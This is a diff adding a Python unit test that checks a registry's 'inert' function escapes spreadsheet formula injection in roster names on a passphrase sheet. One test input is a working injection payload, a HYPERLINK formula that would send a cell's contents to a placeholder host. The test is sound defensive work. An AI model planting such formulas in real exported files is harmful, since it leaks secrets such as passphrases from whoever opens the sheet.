@@ -375,3 +375,13 @@ def test_import_says_a_genuine_credential_under_a_root_she_has_not_listed_is_in_
     altered = replace(held, credential=".".join([head, b64url_encode(json.dumps(claims).encode()), signature]))
     (listed,) = in_own_context(check_now, worker, [Entry("id", tmp_path / "x.json", altered)])
     assert listed.verdict == "invalid" and listed.certifies["name"] is None and listed.certifies["skills"] == []
+
+
+def test_a_name_typed_as_a_formula_is_text_on_the_passphrase_sheet() -> None:
+    """The sheet of one-time passphrases is opened in a spreadsheet: a roster name that starts like a
+    formula (`=HYPERLINK(...)`, `+`, `-`, `@`) must be shown as text, never run."""
+    from registry.ops.people import inert
+
+    assert inert('=HYPERLINK("http://x/?"&D3,"click")') == '\'=HYPERLINK("http://x/?"&D3,"click")'
+    assert [inert(n) for n in ("+1", "-x", "@SUM(A1)", "\tTab")] == ["'+1", "'-x", "'@SUM(A1)", "'\tTab"]
+    assert [inert(n) for n in ("Amina Yusuf", "محمد الأحمد", "O'Brien")] == ["Amina Yusuf", "محمد الأحمد", "O'Brien"]
